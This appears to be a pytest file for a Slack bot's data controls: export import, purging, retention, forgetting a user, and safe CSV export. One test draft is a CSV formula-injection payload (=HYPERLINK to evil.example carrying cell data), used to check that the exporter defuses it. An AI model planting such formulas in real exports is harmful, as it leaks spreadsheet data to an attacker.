"""Slack export import and data controls, on real database files through the CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from bot.config import load_settings
from bot.datacontrols import apply_retention, forget_user, parse_cutoff, purge_texts
from bot.store import Store

ROOT = Path(__file__).resolve().parent.parent
PREMIUM = "We'll launch Premium Plus to upsell existing accounts and lift ARR 15% this quarter."


def make_export(root: Path) -> Path:
    root.mkdir(parents=True)
    (root / "channels.json").write_text(json.dumps([{"id": "C1", "name": "proposals"}, {"id": "C2", "name": "random"}]))
    (root / "users.json").write_text(json.dumps([{"id": "U1", "name": "ana"}]))
    (root / "proposals").mkdir()
    (root / "proposals" / "2026-11-16.json").write_text(json.dumps([
        {"type": "message", "user": "U1", "text": PREMIUM, "ts": "1794823200.000100"},
        {"type": "message", "user": "U2", "text": "anyone up for lunch?", "ts": "1794823300.000100"},
        {"type": "message", "subtype": "channel_join", "user": "U3", "text": "joined", "ts": "1794823400.000100"},
        {"type": "message", "bot_id": "B1", "text": "We'll upsell", "ts": "1794823500.000100"},
        {"type": "message", "user": "U2", "text": "reply", "ts": "1794823600.000100",
         "thread_ts": "1794823200.000100"},
        "not a message",
    ]))
    (root / "proposals" / "2026-11-17.json").write_text("{broken json")
    (root / "random").mkdir()
    (root / "random" / "2026-11-18.json").write_text(json.dumps([
        {"type": "message", "user": "U2", "text": "Let's make invoices easier to find so customers don't have to "
                                                  "call us.", "ts": "1795000000.000100"}]))
    return root


def cli(*args: str, db: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bot", *args], cwd=ROOT, capture_output=True, text=True,
                          env=dict(os.environ, MOTIVECHECK_DB=str(db)), timeout=60)


@pytest.mark.parametrize("zipped", [False, True])
def test_import_is_idempotent_and_reports_what_it_skipped(tmp_path, zipped):
    export = make_export(tmp_path / "export")
    if zipped:
        z = tmp_path / "export.zip"
        with zipfile.ZipFile(z, "w") as zf:
            for p in export.rglob("*"):
                if p.is_file():
                    zf.write(p, "My Workspace Slack export/" + str(p.relative_to(export)))
        export = z
    db = tmp_path / "i.db"
    r = cli("import", str(export), "--json", "--workspace", "T1", db=db)
    assert r.returncode == 0, r.stderr
    s = json.loads(r.stdout)
    assert s["checked"] == 3 and s["messages_read"] == 7
    assert s["skipped"] == {"subtype channel_join": 1, "bot message": 1, "thread reply": 1}
    assert any("2026-11-17.json" in p for p in s["problems"]) and any("[5]" in p for p in s["problems"])
    again = json.loads(cli("import", str(export), "--json", "--workspace", "T1", db=db).stdout)
    assert again["checked"] == 0 and again["already_imported"] == 3
    rows = {r["external_id"]: r for r in Store(db).db.query("select * from checks")}
    assert len(rows) == 3
    premium = rows["C1:1794823200.000100"]
    assert premium["source"] == "import" and premium["user"] == "U1" and premium["ts"] == 1794823200.0001
    assert premium["label"] == "inside-out" and premium["workspace"] == "T1"
    only = json.loads(cli("import", str(export), "--json", "--channels", "random", db=tmp_path / "j.db").stdout)
    assert only["checked"] == 1


@pytest.mark.parametrize("zipped", [False, True])
def test_import_checks_a_draft_posted_with_a_file(tmp_path, zipped):
    """A proposal posted with a screenshot or a spec (subtype file_share) is checked in Slack, so an import checks it
    too: it was skipped as a subtype. A file posted with no text has nothing to check."""
    export = tmp_path / "export"
    (export / "proposals").mkdir(parents=True)
    (export / "channels.json").write_text(json.dumps([{"id": "C1", "name": "proposals"}]))
    files = [{"id": "F1", "name": "plan.png", "mimetype": "image/png"}]
    (export / "proposals" / "2026-11-16.json").write_text(json.dumps([
        {"type": "message", "subtype": "file_share", "user": "U1", "text": PREMIUM, "files": files, "upload": False,
         "ts": "1794823200.000100"},
        {"type": "message", "subtype": "file_share", "user": "U1", "text": "", "files": files, "upload": False,
         "ts": "1794823300.000100"},
        {"type": "message", "subtype": "file_share", "bot_id": "B1", "text": PREMIUM, "files": files,
         "ts": "1794823400.000100"},
    ]))
    if zipped:
        with zipfile.ZipFile(tmp_path / "export.zip", "w") as zf:
            for p in export.rglob("*"):
                if p.is_file():
                    zf.write(p, str(p.relative_to(export)))
        export = tmp_path / "export.zip"
    db = tmp_path / "i.db"
    r = cli("import", str(export), "--json", "--workspace", "T1", db=db)
    assert r.returncode == 0, r.stderr
    s = json.loads(r.stdout)
    assert s["checked"] == 1 and s["skipped"] == {"empty": 1, "bot message": 1}
    (row,) = Store(db).db.query("select * from checks")
    assert row["external_id"] == "C1:1794823200.000100" and row["draft_text"] == PREMIUM
    assert row["label"] == "inside-out" and row["user"] == "U1"


def test_purge_keeps_verdicts_and_counts(tmp_path):
    db = tmp_path / "p.db"
    cli("import", str(make_export(tmp_path / "e")), db=db)
    store = Store(db)
    before = list(store.db.query("select label, count(*) n from checks group by label order by label"))
    assert purge_texts(store, parse_cutoff("2026-11-17")) == 2
    after = list(store.db.query("select label, count(*) n from checks group by label order by label"))
    assert before == after
    texts = [r["draft_text"] for r in store.db.query("select draft_text from checks order by ts")]
    assert texts[:2] == [None, None] and texts[2]
    assert all("Premium" not in (r["verdict_json"] or "") for r in store.db.query("select verdict_json from checks"))
    out = cli("purge", "--older-than", "1d", db=db)
    assert out.returncode == 0 and "Removed the draft text of 1 check(s)" in out.stdout


def test_retention_setting(tmp_path):
    store = Store(tmp_path / "r.db")
    from bot.checker import Checker
    checker = Checker(load_settings(env={}), store)
    checker.check(PREMIUM, log=True, ts=1_000_000.0)
    checker.check(PREMIUM + " now", log=True)
    assert apply_retention(store, load_settings(env={"MOTIVECHECK_RETENTION_DAYS": "30"})) == 1
    assert apply_retention(store, load_settings(env={})) == 0
    assert [r["draft_text"] is None for r in store.db.query("select draft_text from checks order by ts")] == [True, False]


def test_forget_and_export(tmp_path):
    db = tmp_path / "f.db"
    cli("import", str(make_export(tmp_path / "e")), db=db)
    store = Store(db)
    cid = store.db.value("select id from checks where \"user\" = 'U1'")
    store.record_decision(cid, "kept-original", user="U1", reason="mine is fine")
    exported = cli("export", "--format", "csv", db=db).stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert len(rows) == 3 and "text" not in rows[0]
    assert next(r for r in rows if r["user"] == "U1")["decision"] == "kept-original"
    with_text = [json.loads(x) for x in cli("export", "--format", "jsonl", "--with-text", db=db).stdout.splitlines()]
    assert any(r["text"] == PREMIUM for r in with_text)
    store.add_labels([{"workspace": "", "text": PREMIUM, "label": "inside-out"}])  # an admin's file held it too
    r = cli("forget", "--user", "U1", db=db)
    assert r.returncode == 0 and "erased the drafts of 1 check(s), deleted 1 decision(s)" in r.stdout
    assert "and 1 label(s) holding their words" in r.stdout  # said, as every other thing it removed is
    assert not list(store.db.query("select * from checks where \"user\" = 'U1' or draft_text = ?", [PREMIUM]))
    assert store.count("checks") == 3 and store.count("decisions") == 0
    assert forget_user(store, "U1")["checks_erased"] == 0


def test_hash_only_storage(tmp_path):
    from bot.checker import Checker
    settings = load_settings(env={"MOTIVECHECK_STORE_TEXT": "off"}, db_path=str(tmp_path / "h.db"))
    store = Store(settings.db_path, store_text=settings.store_text)
    result = Checker(settings, store).check(PREMIUM, log=True)
    row = store.get_check(result.check_id)
    assert row["draft_text"] is None and row["label"] == "inside-out" and len(row["draft_hash"]) == 64


def test_csv_export_defuses_formulas_and_json_lines_stay_exact(tmp_path):
    """A draft a spreadsheet would run (=HYPERLINK sends data away) is exported as text: a leading single quote on
    cells that start with =, +, -, @, tab or CR, in CSV only."""
    from bot.checker import Checker

    db = tmp_path / "f.db"
    store = Store(db)
    checker = Checker(load_settings(env={}, db_path=str(db)), store)
    drafts = ['=HYPERLINK("http://evil.example/?d="&A1,"Premium Plus")', "+1 upsell Premium Plus", "-2 churn plan",
              "@SUM(A1:A9) upsell", "\tlaunch Premium Plus", "\rlaunch Premium Plus", PREMIUM, "a = b, not a formula"]
    for draft in drafts:
        checker.check(draft, log=True)
    assert cli("export", "--format", "csv", "--with-text", "--output", str(tmp_path / "x.csv"), db=db).returncode == 0
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as f:  # as a spreadsheet reads it: CR kept
        rows = list(csv.DictReader(f))
    assert [r["text"] for r in rows] == ["'" + d for d in drafts[:6]] + drafts[6:]
    assert all(r["score"].isdigit() for r in rows)  # numbers are not touched
    lines = [json.loads(x) for x in cli("export", "--format", "jsonl", "--with-text", db=db).stdout.splitlines()]
    assert [r["text"] for r in lines] == drafts


def test_an_export_file_is_owner_only_as_the_database_is(tmp_path, monkeypatch):
    """``export --with-text --output FILE`` writes people's drafts: the file was created with the umask's usual mode
    (0644), readable by every account on the machine, where the database beside it is 0600."""
    from bot.checker import Checker
    from bot.cli import main

    db = tmp_path / "o.db"
    Checker(load_settings(env={}, db_path=str(db)), Store(db)).check(PREMIUM, log=True)
    monkeypatch.setenv("MOTIVECHECK_DB", str(db))
    old = os.umask(0o022)
    try:
        assert main(["export", "--with-text", "--output", str(tmp_path / "drafts.csv")]) == 0
    finally:
        os.umask(old)
    assert PREMIUM in (tmp_path / "drafts.csv").read_text()
    assert oct((tmp_path / "drafts.csv").stat().st_mode & 0o777) == oct(0o600)
